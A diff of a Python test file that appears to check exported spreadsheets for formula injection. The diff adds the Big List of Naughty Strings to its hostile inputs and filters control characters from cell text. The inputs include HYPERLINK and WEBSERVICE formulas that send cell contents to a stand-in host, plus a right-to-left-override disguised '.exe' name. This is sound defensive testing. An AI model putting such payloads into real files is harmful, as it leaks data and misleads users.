@@ -7,13 +7,14 @@ written as flat XML, whose cells are then read. A file without the guards shows 
 
 import csv
 import json
+import re
 import subprocess
 import sys
 import xml.etree.ElementTree as ET
 from pathlib import Path
 from tempfile import TemporaryDirectory
 
-from tests.faults.common import NIGHTS, night, tell, triage
+from tests.faults.common import NIGHTS, ROOT, night, tell, triage
 from tests.faults.kills import BUYER
 
 CALLS = ("1+1", "SUM(A1:A9)", 'HYPERLINK("https://host.example","click")', 'WEBSERVICE("https://host.example/?"&A1)',
@@ -44,9 +45,12 @@ OTHERS = (
     "emoji 👟 and نعل", "\u202egnp.exe\u202c",
     "l\u2028s",
 )  # fmt: skip
-HOSTILE = (*(start + call for start in STARTS for call in CALLS), *OTHERS)
+# The Big List of Naughty Strings, as its README there says; nothing is not a title.
+NAUGHTY = json.loads((ROOT / "tests" / "observation" / "naughty_strings" / "blns.json").read_text("utf-8"))
+HOSTILE = (*(start + call for start in STARTS for call in CALLS), *OTHERS, *filter(None, NAUGHTY))
 _ODF = "urn:oasis:names:tc:opendocument:xmlns:"
 _OFFICE, _TABLE, _TEXT = (f"{{{_ODF}{name}:1.0}}" for name in ("office", "table", "text"))
+_LOST = re.compile(r"[\x00-\x08\x0b-\x1f\ufffe\uffff]")
 _LINK = "{http://www.w3.org/1999/xlink}href"
 # Field mark ',', quote mark '"', UTF-8; then whether a quoted field is text ("Quoted field as text" when it is opened
 # by hand). Where it is not, what looks like a number or a day becomes one, in every office program.
@@ -110,9 +114,13 @@ TEXTS = ("listing_id", "external_id", "seller", "title", "size_text", "url")
 
 
 def texts_of(rows: list[list[str]]) -> list[tuple[str, ...]]:
-    """Return the texts of strangers in a table below its heading, sorted; a cell has one kind of line end."""
+    """Return the texts of strangers in a table below its heading, sorted, as XML can hold them.
+
+    It has no control characters, and a cell in LibreOffice one kind of line end.
+    """
     places = [rows[0].index(name) for name in TEXTS]
-    return sorted(tuple(row[at].replace("\r", "\n") if at < len(row) else "" for at in places) for row in rows[1:])
+    every = ([_LOST.sub("", row[at].replace("\r", "\n")) if at < len(row) else "" for at in places] for row in rows[1:])
+    return sorted(map(tuple, every))
 
 
 def faults_of_night(root: Path) -> tuple[list[str], int]:
